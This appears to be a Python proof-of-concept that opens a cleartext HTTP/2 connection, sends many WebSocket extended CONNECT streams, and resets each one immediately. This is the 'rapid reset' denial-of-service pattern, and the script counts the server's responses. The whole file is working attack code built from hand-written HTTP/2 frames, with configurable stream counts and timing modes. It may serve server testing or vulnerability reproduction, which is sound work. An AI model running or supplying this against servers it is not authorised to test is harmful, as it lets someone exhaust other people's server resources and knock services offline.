#!/usr/bin/env python3
"""Rapid reset of WebSocket streams: extended CONNECTs cancelled as soon as they are sent.

    h2_connect_reset.py HOST PORT PATH [--streams N] [--mode same-write|after-read]

Over one h2c connection (prior knowledge; the server's SETTINGS, with ENABLE_CONNECT_PROTOCOL,
acknowledged first), opens N extended CONNECT streams to PATH and resets each (RST_STREAM CANCEL):
`same-write` puts each HEADERS and its RST_STREAM in one write; `after-read` sends the HEADERS,
waits 2 ms so the server reads it alone, then resets. Frames are written by hand. Prints
"sent N" and the count of responses by status.
"""
import json
import socket
import struct
import sys
import time
from collections import Counter

from hpack import Decoder


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def main() -> int:
    args = sys.argv[1:]
    host, port, path = args[0], int(args[1]), args[2]
    options = dict(zip(args[3::2], args[4::2]))
    count, mode = int(options.get("--streams", 300)), options.get("--mode", "same-write")
    sock = socket.create_connection((host, port), timeout=10)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
    buffer = bytearray()

    def frames():
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                return
            kind, flags, sid = buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
            payload = bytes(buffer[9:9 + length])
            del buffer[:9 + length]
            yield kind, flags, sid, payload

    acked = False
    while not acked:
        buffer += sock.recv(65536)
        for kind, flags, _, _ in list(frames()):
            if kind == 4 and not flags & 1:
                sock.sendall(frame(4, 1, 0, b""))
                acked = True
    block = b"".join(literal(n, v) for n, v in [(b":method", b"CONNECT"), (b":protocol", b"websocket"), (b":scheme", b"http"),
                                                (b":path", path.encode()), (b":authority", f"{host}:{port}".encode()),
                                                (b"sec-websocket-version", b"13")])
    for i in range(count):
        sid = 1 + 2 * i
        headers, reset = frame(1, 0x4, sid, block), frame(3, 0, sid, struct.pack("!I", 8))
        if mode == "same-write":
            sock.sendall(headers + reset)
        else:
            sock.sendall(headers)
            time.sleep(0.002)
            sock.sendall(reset)
    # Whatever the server answered before it saw the resets.
    statuses = Counter()
    decoder = Decoder()
    sock.settimeout(1)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                break
            buffer += data
            for kind, _, _, payload in list(frames()):
                if kind == 1:
                    statuses[dict(decoder.decode(payload)).get(":status")] += 1
    except socket.timeout:
        pass
    print(f"sent {count}")
    print(json.dumps(statuses))
    sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
